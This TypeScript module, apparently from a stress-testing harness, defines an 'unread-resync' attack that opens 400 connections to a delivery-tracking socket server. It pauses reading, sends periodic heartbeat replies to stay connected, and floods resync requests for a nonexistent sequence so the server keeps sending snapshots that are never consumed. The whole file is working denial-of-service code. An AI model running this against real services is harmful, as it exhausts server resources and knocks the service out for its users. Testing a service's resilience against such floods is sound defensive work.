// Opens 400 connections with one tracking link, asks for its state repeatedly and reads no answer.
import { setTimeout as pause } from 'node:timers/promises';
import { textFrame, type FrameClient } from '../../clients/swarm.ts';
import type { Attack, Target } from './attack.ts';
import { joinTrack } from './connect.ts';

const CONNECTIONS = 400;
/** Each connection asks at the pace that the server allows: some at once, then some in each period. */
const FIRST = 200;
const LATER = 4;
const PERIOD_MS = 250;
/** Sends answers to heartbeats that it did not read at this interval, ms, so that the server keeps the connection. */
const BEAT_MS = 5000;
const PONG = textFrame('3');

export const unreadResync: Attack = {
  name: 'unread-resync',
  what: 'opens 400 connections with one tracking link, asks for resync and reads no answer',
  run: async (target, signal) => {
    const figures = { connections: 0, 'refused connections': 0, questions: 0 };
    const open: FrameClient[] = [];
    for (let index = 0; index < CONNECTIONS && !signal.aborted; index += 1) {
      try {
        const client = await joinTrack(target);
        client.pause();
        open.push(client);
        figures.connections += 1;
        figures.questions += ask(client, target, FIRST);
      } catch {
        // The server accepts no more connections.
        figures['refused connections'] += 1;
      }
    }
    let beatAt = performance.now();
    while (!signal.aborted) {
      await pause(PERIOD_MS);
      const isBeat = performance.now() - beatAt > BEAT_MS;
      if (isBeat) beatAt = performance.now();
      for (const client of open.filter(({ isOpen }) => isOpen())) {
        if (isBeat) client.send(PONG);
        figures.questions += ask(client, target, LATER);
      }
    }
    for (const client of open) client.close();
    return figures;
  },
};

let asked = 0;

/**
 * Asks for a sequence that does not exist yet, so that the server answers with a snapshot. Returns the number of
 * questions.
 */
function ask(client: FrameClient, { deliveryId }: Target, count: number): number {
  for (let index = 0; index < count; index += 1) {
    asked += 1;
    const body = JSON.stringify(['resync', { delivery_id: deliveryId, after: 999_999 }]);
    client.send(textFrame(`42/track,${asked}${body}`));
  }
  return count;
}
